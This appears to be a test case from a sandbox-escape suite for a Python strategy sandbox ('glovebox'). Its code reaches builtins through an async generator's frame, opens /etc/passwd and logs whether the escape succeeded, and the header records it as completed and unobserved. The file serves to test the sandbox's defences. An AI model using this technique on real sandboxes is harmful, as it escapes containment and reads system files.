# id: L04
# family: language
# goal: reach builtins through the frame of an async generator
# finding: PY106 PY115
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    async def walk():
        yield 1

    names = walk().ag_frame.f_builtins
    return names["open"]("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
